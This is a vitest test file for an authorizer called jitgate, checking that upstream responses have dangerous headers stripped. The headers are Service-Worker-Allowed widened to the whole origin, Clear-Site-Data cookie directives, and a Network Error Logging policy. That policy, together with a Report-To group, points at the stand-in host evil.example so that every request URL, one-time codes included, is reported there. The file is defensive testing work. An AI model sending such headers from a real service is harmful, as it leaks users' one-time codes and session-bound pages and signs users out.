import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Answer, bearer, type Harness, send, startHarness } from '../e2e/authorizer-harness.js';
import { countFigures } from './figures.js';

/**
 * Beyond Set-Cookie, an upstream's answer can reach into the browser state of the origin it is
 * served on, which for a pathPrefix resource is the authorizer's own origin, shared with jitgate's
 * pages (the approver's step-up confirmation, redeem links, sign-in) and every other resource:
 *
 * - `Service-Worker-Allowed: /` lets a script under `/app/` register a service worker for the whole
 *   origin, which then sees (and can answer) every page load there: the one-time code of a step-up
 *   confirmation link or a redeem link, and the confirmation form with the approver's fresh session.
 *   Without the header a worker registered from `/app/` is confined to `/app/`.
 * - `Clear-Site-Data: "cookies"` (or `"*"`) makes the browser delete every cookie of the site (the
 *   registrable domain: sibling hosts too), jitgate's access cookies and session among them: one
 *   upstream signs everyone out of every resource, which jitgate forbids its Set-Cookie to do.
 * - `NEL` with `Report-To` sets a Network Error Logging policy for the whole origin, which reports
 *   the URL of every later request there, one-time codes included, to the upstream's endpoint.
 *
 * The authorizer removes both from every upstream answer that could carry them that way; its own
 * directives that harm nothing else (`"cache"`) are kept.
 */
countFigures('attack');

let h: Harness;
let app: string;
let hosted: string;
beforeAll(async () => {
  h = await startHarness();
  app = (await h.grant('app', 'viewer')).token;
  hosted = (await h.grant('hosted')).token;
});
afterAll(async () => h?.close());

const HOSTED = 'hosted.test.local';
const query = (pairs: [string, string][]) =>
  pairs.map(([k, v]) => `${encodeURIComponent(`set.${k}`)}=${encodeURIComponent(v)}`).join('&');

function answeredWith(
  path: string,
  token: string,
  headers: [string, string][],
  host?: string,
): Promise<Answer> {
  return send(h.url, `${path}?${query(headers)}`, {
    headers: { ...bearer(token), ...(host ? { host } : {}) },
  });
}

describe('attack: a pathPrefix upstream widens its service worker to the whole origin', () => {
  it.each([
    ['the root', '/'],
    ["jitgate's own pages", '/_jitgate/'],
    ['another resource', '/other/'],
    ['with spaces around it', '  /  '],
  ])('when it allows %s, then the header never reaches the browser', async (_, scope) => {
    const a = await answeredWith('/app/sw.js', app, [
      ['service-worker-allowed', scope],
      ['content-type', 'text/javascript'],
    ]);
    expect(a.status).toBe(200);
    expect(a.headers['service-worker-allowed']).toBeUndefined();
  });

  it("when it allows only its own prefix, then that is no wider than the worker's default and is removed all the same", async () => {
    const a = await answeredWith('/app/js/sw.js', app, [['service-worker-allowed', '/app/']]);
    expect(a.headers['service-worker-allowed']).toBeUndefined();
  });

  it('when a host resource, an origin of its own, says it, then it is kept', async () => {
    const a = await answeredWith('/sw.js', hosted, [['service-worker-allowed', '/']], HOSTED);
    expect(a.status).toBe(200);
    expect(a.headers['service-worker-allowed']).toBe('/');
  });
});

describe('attack: a pathPrefix upstream asks the browser to report every request of the origin', () => {
  // Network Error Logging is a policy of the whole origin: with success_fraction 1 the browser sends
  // the URL of every later request there (a redeem or step-up link's one-time code in its query)
  // to the endpoint the policy names (Report-To), which the upstream chooses.
  const nel = '{"report_to":"leak","max_age":86400,"success_fraction":1.0,"include_subdomains":true}';
  const reportTo = '{"group":"leak","max_age":86400,"endpoints":[{"url":"https://evil.example/r"}]}';

  it('when it sends NEL and Report-To, then neither reaches the browser', async () => {
    const a = await answeredWith('/app/x', app, [
      ['nel', nel],
      ['report-to', reportTo],
    ]);
    expect(a.status).toBe(200);
    expect(a.headers.nel).toBeUndefined();
    expect(a.headers['report-to']).toBeUndefined();
  });

  it('when a host resource sends them for its own origin, then they are kept', async () => {
    const a = await answeredWith('/x', hosted, [['nel', nel]], HOSTED);
    expect(a.headers.nel).toBe(nel);
  });
});

describe("attack: an upstream clears the site's cookies", () => {
  it.each([
    ['"cookies"'],
    ['"*"'],
    ['"cache", "cookies"'],
    ['"COOKIES"'],
    ['"storage","cookies","executionContexts"'],
    ['cookies'],
  ])(
    'when a pathPrefix upstream sends Clear-Site-Data: %s, then no cookie-clearing directive reaches the browser',
    async (value) => {
      const a = await answeredWith('/app/logout', app, [['clear-site-data', value]]);
      expect(a.status).toBe(200);
      expect(String(a.headers['clear-site-data'] ?? '').toLowerCase()).not.toMatch(/cookies|\*/);
    },
  );

  it('when a host resource sends it, then it is removed too (cookies are cleared for the whole site, its sibling hosts and the authorizer included)', async () => {
    const a = await answeredWith('/bye', hosted, [['clear-site-data', '"cookies", "storage"']], HOSTED);
    expect(String(a.headers['clear-site-data'] ?? '').toLowerCase()).not.toContain('cookies');
  });

  it('when it asks only to clear its cache, then that is kept', async () => {
    const a = await answeredWith('/app/logout', app, [['clear-site-data', '"cache"']]);
    expect(a.headers['clear-site-data']).toBe('"cache"');
  });
});
